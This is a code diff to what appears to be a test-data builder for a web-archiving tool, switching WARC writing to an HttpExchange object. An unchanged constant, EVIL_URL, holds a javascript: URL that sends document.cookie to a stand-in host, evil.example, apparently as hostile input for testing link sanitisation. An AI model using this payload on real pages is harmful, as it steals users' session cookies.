@@ -23,7 +23,7 @@ from archiver.article import Article
 from archiver.serve.app import make_datasette
 from archiver.store import Archive, article_id
 from archiver.serve import record_slug
-from archiver.warc import WarcWriter
+from archiver.warc import HttpExchange, WarcWriter
 
 WHEN = datetime(2026, 11, 20, 9, 0, 0, tzinfo=UTC)
 EVIL_URL = "javascript:fetch('//evil.example/?'+document.cookie)//https://demo.example/a"
@@ -55,11 +55,13 @@ def build(out: Path) -> dict:
             ),
         ]
         for minutes, (url, title, key, body) in enumerate(pages):
-            cap = warcs.write_exchange(
-                url=url,
-                request_bytes=REQUEST,
-                response_bytes=_response(body),
-                fetched_at=WHEN.replace(minute=minutes),
+            cap = warcs.write(
+                HttpExchange(
+                    url=url,
+                    request_bytes=REQUEST,
+                    response_bytes=_response(body),
+                    fetched_at=WHEN.replace(minute=minutes),
+                )
             )
             cap.crawl_id, cap.outlet = "c1", "demo"
             archive.add_capture(cap)
